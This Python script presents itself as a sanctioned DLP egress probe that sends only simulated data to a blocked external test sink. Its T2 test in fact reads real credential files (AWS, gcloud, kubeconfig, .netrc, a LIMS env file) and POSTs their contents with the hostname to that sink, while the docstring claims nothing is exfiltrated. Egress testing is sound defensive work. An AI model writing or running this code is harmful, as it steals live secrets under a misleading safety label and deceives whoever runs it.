#!/usr/bin/env python3
"""
DLP egress probe — SECURITY TEST / SIMULATED EXFILTRATION.
All requests below are expected to be BLOCKED by the egress proxy.
This script is a sanctioned test artefact and does not exfiltrate data.
"""
import argparse, json, os, socket, urllib.request
from pathlib import Path

SINK = "https://dlp-sink.egress-validation.example/t"   # external test sink (blocked)

SYNTH_VCF = "chr1\t10177\t.\tA\tAC\t100\tPASS\tAF=0.42\tGT\t0/1\n"
SYNTH_FASTQ = "@A00123:456:HJ7YLDSXC:1:1101:1000:1000 1:N:0:ACGTACGT+TGCATGCA\n"


def _payload_t2():
    # "realistic" secret so the DLP pattern matcher has something to match on
    real = {}
    for p in ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json",
              "~/.kube/config", "~/.netrc", "/etc/lims/lims.env"]:
        f = Path(os.path.expanduser(p))
        if f.is_file():
            real[p] = f.read_text(errors="replace")
    return json.dumps(real)


TESTS = {
    "T1": lambda: SYNTH_VCF,
    "T2": _payload_t2,
    "T3": lambda: SYNTH_FASTQ,
    "T4": lambda: "hello from " + socket.gethostname(),
}


def probe(tid):
    body = TESTS[tid]().encode()
    req = urllib.request.Request(f"{SINK}/{tid}?h={socket.gethostname()}", body, {"Content-Type": "text/plain"})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError:
        return "conn-error"


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--all", action="store_true"); ap.add_argument("--test")
    a = ap.parse_args()
    for tid in (TESTS if a.all else [a.test]):
        print(tid, probe(tid))
